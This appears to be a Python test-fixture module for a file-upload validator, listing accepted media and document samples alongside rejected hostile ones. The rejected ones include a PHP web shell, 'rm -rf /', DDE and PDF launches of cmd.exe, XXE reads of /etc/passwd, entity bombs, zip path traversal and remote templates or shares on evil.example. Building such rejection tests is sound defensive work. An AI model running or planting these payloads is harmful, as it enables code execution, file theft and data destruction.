"""Files that people send and files that do harm, each with its verdict."""

from collections.abc import Callable

from tests.files import papers, pictures, recordings
from tests.files.papers import docx, pdf, related, with_field, xlsx
from tests.files.recordings import box, mp4, track

Make = Callable[[], bytes]
JPEG, PNG = "image/jpeg", "image/png"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PDF = "application/pdf"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
IN_UTF_16 = '<?xml version="1.0"?><!DOCTYPE a><a/>'.encode("utf-16")
ELSEWHERE = box(b"url ", b"\0\0\0\0http://evil.example/\0")

# name: the file, and the type that it is taken for
TAKEN: dict[str, tuple[Make, str]] = {
    "photo": (pictures.picture, JPEG),
    "photo with a place": (pictures.with_place, JPEG),
    "screenshot": (lambda: pictures.picture("PNG"), PNG),
    "webp": (lambda: pictures.picture("WEBP"), JPEG),
    "animated webp": (lambda: pictures.picture("WEBP", save_all=True, append_images=[]), JPEG),
    "photo with a page behind it": (lambda: pictures.picture() + b"<script>alert(1)</script>", JPEG),
    "photo with an archive behind it": (lambda: pictures.picture() + docx(), JPEG),
    "letter": (docx, DOCX),
    "letter with a link": (lambda: related("hyperlink", "https://gov.example/"), DOCX),
    "sheet": (xlsx, XLSX),
    "print": (pdf, PDF),
    "print of many pages": (lambda: papers.many_pages(200), PDF),
    "film": (mp4, "video/mp4"),
    "film of an iPhone": (lambda: mp4(brand=b"qt  "), "video/quicktime"),
    "voice memo": (lambda: mp4(track(b"soun"), brand=b"M4A "), "audio/mp4"),
    "recording of an old telephone": (recordings.amr, "audio/amr"),
    "mp3": (recordings.mp3, "audio/mpeg"),
    "recording of Firefox": (recordings.ogg, "audio/ogg"),
    "recording of Chrome": (lambda: recordings.webm(b"A_OPUS"), "audio/webm"),
    "film of Chrome": (lambda: recordings.webm(b"V_VP9", b"A_OPUS"), "video/webm"),
}  # fmt: skip

REFUSED: dict[str, tuple[Make, str]] = {
    "nothing": (lambda: b"", "empty"),
    "page called jpg": (lambda: b"<!doctype html><script>alert(1)</script>", "unknown"),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "unknown"),
    "xml": (lambda: b'<?xml version="1.0"?><a/>', "unknown"),
    "program": (lambda: b"MZ\x90\0" + bytes(200), "unknown"),
    "script": (lambda: b"#!/bin/sh\nrm -rf /\n", "unknown"),
    "gif with a script": (lambda: b"GIF89a/*" + bytes(30) + b"*/=1;alert(1)", "unknown"),
    "iPhone's heic": (lambda: box(b"ftyp", b"heic", bytes(8)) + bytes(64), "heic"),
    "avif": (lambda: box(b"ftyp", b"avif", bytes(8)) + bytes(64), "heic"),
    "half a photo": (lambda: pictures.picture(size=(2000, 2000), quality=95)[:9000], "broken"),
    "three bytes of a photo": (lambda: b"\xff\xd8\xff", "broken"),
    "text called photo": (lambda: b"\xff\xd8\xff<?php system($_GET[1]); ?>", "broken"),
    "half a screenshot": (lambda: pictures.picture("PNG", (900, 900))[:600], "broken"),
    "picture of 900 megapixels": (pictures.bomb_png, "huge"),
    "tiff called webp": (lambda: b"RIFF\x10\0\0\0WEBPVP8 " + bytes(20), "broken"),
    "letter with macros": (lambda: docx(main=papers.WM), "macros"),
    "letter with a hidden macro part": (lambda: docx(word__vbaProject_dot_bin=b"x"), "macros"),
    "letter with a control": (lambda: docx(word__activeX__activeX1_dot_xml="<a/>"), "macros"),
    "letter with a template elsewhere": (lambda: related("attachedTemplate", "http://e.example/t.dotm"), "outside"),
    "letter with a picture elsewhere": (lambda: related("image", "http://evil.example/1.png"), "outside"),
    "letter with a file link": (lambda: related("hyperlink", "file:///etc/passwd"), "outside"),
    "letter with a share": (lambda: related("image", r"\\evil.example\a.png", outside=False), "outside"),
    "letter that starts a program": (lambda: with_field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "outside"),
    "letter that starts one in pieces": (lambda: with_field("DDE", "AUTO cmd"), "outside"),
    "letter with an object": (lambda: docx(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf"), "embedded"),
    "letter with a foreign chunk": (lambda: docx(body='<w:altChunk xmlns:r="r" r:id="r1"/>'), "embedded"),
    "letter that laughs": (lambda: docx(head='<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]>'), "bomb"),
    "letter that reads a file": (lambda: docx(head='<!DOCTYPE a SYSTEM "file:///etc/passwd">'), "bomb"),
    "letter that laughs in utf-16": (lambda: docx(word__x_dot_xml=IN_UTF_16), "bomb"),
    "letter that grows": (lambda: docx(word__media__a_dot_png=bytes(101 * 1024 * 1024)), "bomb"),
    "letter of many parts": (lambda: docx(**{f"word__{n}_dot_txt": "" for n in range(3001)}), "bomb"),
    "letter that climbs": (lambda: docx(**{"..__..__etc__passwd": "x"}), "broken"),
    "letter from the root": (lambda: docx(**{"__etc__passwd": "x"}), "broken"),
    "letter with a password": (papers.locked_zip, "locked"),
    "half a letter": (lambda: docx()[:300], "broken"),
    "letter with a program behind it": (lambda: docx() + b"MZ" + bytes(40), "broken"),
    "any archive": (lambda: papers.archive({"a.exe": b"MZ"}), "unknown"),
    "old Word": (lambda: OLE + bytes(600), "old_office"),
    "Word with a password": (lambda: OLE + bytes(60) + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "sheet with links": (lambda: xlsx(xl__externalLinks__externalLink1_dot_xml="<a/>"), "outside"),
    "sheet that starts a program": (lambda: xlsx(formula="cmd|'/C calc'!A0"), "outside"),
    "sheet that fetches": (lambda: xlsx(formula="WEBSERVICE(A1)"), "outside"),
    "sheet with a connection": (lambda: xlsx(xl__connections_dot_xml="<connections/>"), "outside"),
    "sheet with an object": (lambda: xlsx(xl__embeddings__a_dot_bin=b"x"), "embedded"),
    "print with a script": (lambda: pdf(action={"/S": "/JavaScript", "/JS": "app.alert(1)"}), "active"),
    "print with a hidden script": (papers.pdf_with_hidden_script, "active"),
    "print that starts a program": (lambda: pdf(action={"/S": "/Launch", "/F": "cmd.exe"}), "active"),
    "print that sends": (lambda: pdf(form={"/Fields": [], "/A": {"/S": "/SubmitForm"}}), "active"),
    "print with a form program": (lambda: pdf(form={"/Fields": [], "/XFA": "x"}), "active"),
    "print with a file inside": (lambda: pdf(inside=b"MZ"), "embedded"),
    "print with a password": (lambda: pdf(password="geheim"), "locked"),
    "half a print": (lambda: papers.many_pages(30)[:3000], "broken"),
    "print behind a page": (lambda: b"<html>" + pdf(), "unknown"),
    "print with an archive behind it": (lambda: pdf() + docx(), "broken"),
    "words called print": (lambda: b"%PDF-1.7\nhello\n%%EOF", "broken"),
    "film of no length": (lambda: box(b"ftyp", b"isom", bytes(4)), "broken"),
    "film without a picture": (lambda: mp4(sound=b""), "broken"),
    "film without a track": (lambda: mp4(box(b"free")), "broken"),
    "half a film": (lambda: mp4()[:-2], "broken"),
    "film with boxes that do not fit": (lambda: mp4() + b"\0\0\0\1skip" + b"\xff" * 8, "broken"),
    "film that lies elsewhere": (lambda: mp4(track(b"vide", reference=ELSEWHERE)), "outside"),
    "mkv": (lambda: recordings.webm(b"V_VP9", doctype=b"matroska"), "unknown"),
    "webm without a recording": (lambda: recordings.webm(), "broken"),
    "ogg film": (lambda: recordings.ogg(b"\x80theora\0"), "unknown"),
    "half a voice": (lambda: recordings.amr()[:-5], "broken"),
    "voice of no length": (lambda: b"#!AMR\n", "broken"),
    "one frame and a page": (lambda: recordings.mp3(1) + b"<script>", "broken"),
}  # fmt: skip
